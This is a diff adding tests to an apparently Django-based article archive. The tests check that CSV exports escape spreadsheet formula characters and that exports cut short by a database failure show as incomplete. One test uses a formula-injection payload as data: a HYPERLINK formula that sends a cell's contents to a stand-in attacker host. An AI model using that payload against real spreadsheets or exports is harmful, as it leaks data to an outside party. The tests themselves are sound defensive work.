@@ -6,7 +6,11 @@ import json
 import re
 
 import feedparser
+import hypothesis
 import pytest
+from django.db import OperationalError
+from hypothesis import HealthCheck, given
+from hypothesis import strategies as st
 from openapi_spec_validator import validate
 
 from reports.models import Article
@@ -295,3 +299,120 @@ def test_the_dataset_command_writes_every_public_table_a_dictionary_and_the_lice
     response = client.get("/data/polsec-dataset.zip")
     assert response.status_code == 200
     assert client.get("/data/").status_code == 200
+
+
+# --- CSV cells that a spreadsheet would run (formula injection) ------------------------
+
+DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def assert_no_formula(cell: str):
+    """No cell starts with a formula character (the neutralised form starts with `'`)."""
+    assert not cell.startswith(DANGEROUS_START), repr(cell)
+
+
+@pytest.mark.django_db
+def test_an_imported_hyperlink_formula_is_written_as_text_in_the_csv(client, seeded):
+    article = Article.objects.published().get(title=KALTENG)
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
+    Article.objects.filter(pk=article.pk).update(title=formula, author="@SUM(1+1)")
+    [row] = csv_rows(client, "region=62")
+    assert row["title"] == "'" + formula
+    assert row["author"] == "'@SUM(1+1)"
+    assert row["id"] == str(article.pk)  # numbers stay numbers
+    [item] = json_articles(client, "region=62")
+    assert item["title"] == formula  # JSON carries the text as it is
+
+
+def _with_text(value, draw, text):
+    """The record `value` with every string in it drawn anew."""
+    if isinstance(value, str):
+        return draw(text)
+    if isinstance(value, dict):
+        return {k: _with_text(v, draw, text) for k, v in value.items()}
+    if isinstance(value, list):
+        return [_with_text(v, draw, text) for v in value]
+    return value
+
+
+CELL_TEXT = st.one_of(
+    st.text(),
+    st.builds(
+        lambda start, rest: start + rest,
+        st.sampled_from([*DANGEROUS_START, "'", " =", "'=", "=\n"]),
+        st.text(),
+    ),
+)
+
+
+@pytest.mark.django_db
+@hypothesis.settings(
+    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(data=st.data())
+def test_no_csv_cell_of_any_text_starts_with_a_formula_character(seeded, data):
+    from reports import exports
+
+    article = exports.prepare(Article.objects.published()).get(title__startswith="Siagakan")
+    template = exports.record(article, "https://arsip.example")
+    items = [_with_text(template, data.draw, CELL_TEXT) for _ in range(2)]
+    text = "".join(exports.csv_lines(items))
+    rows = list(csv.reader(io.StringIO(text[1:])))
+    assert rows[0] == exports.CSV_COLUMNS
+    for item, row in zip(items, rows[1:], strict=True):
+        for column, cell, value in zip(
+            exports.CSV_COLUMNS, row, exports.csv_row(item), strict=True
+        ):
+            assert_no_formula(cell)
+            if isinstance(value, str) and not value.startswith(DANGEROUS_START):
+                assert cell == value  # only the dangerous cells change
+            if isinstance(value, int):
+                assert cell == str(value), column
+
+
+# --- An export cut short must look cut short --------------------------------------------
+
+
+@pytest.fixture
+def failing_after(monkeypatch):
+    """Make the export's row iterator fail after `n` rows, as a database that goes
+    away mid-stream does."""
+    from reports import exports
+
+    def fail_after(n: int):
+        rows = exports.rows
+
+        def broken(ordered):
+            for i, article in enumerate(rows(ordered)):
+                if i == n:
+                    raise OperationalError("server closed the connection unexpectedly")
+                yield article
+
+        monkeypatch.setattr(exports, "rows", broken)
+
+    return fail_after
+
+
+@pytest.mark.django_db
+def test_a_complete_json_export_ends_with_its_trailer(client, seeded):
+    response = client.get("/articles.json")
+    document = json.loads(b"".join(response.streaming_content))
+    assert document["complete"] is True
+    assert document["count"] == len(document["articles"]) == 5
+    assert list(document)[-2:] == ["count", "complete"]  # written last
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("kind", ["json", "csv"])
+def test_an_export_cut_by_a_database_failure_breaks_the_stream(client, seeded, failing_after, kind):
+    failing_after(2)
+    response = client.get(f"/articles.{kind}")
+    assert response.status_code == 200  # the head was sent before the failure
+    received = []
+    with pytest.raises(OperationalError):
+        for chunk in response.streaming_content:
+            received.append(chunk)
+    text = b"".join(received).decode()
+    assert '"complete"' not in text
+    if kind == "csv":
+        assert len(list(csv.reader(io.StringIO(text[1:])))) == 1 + 2
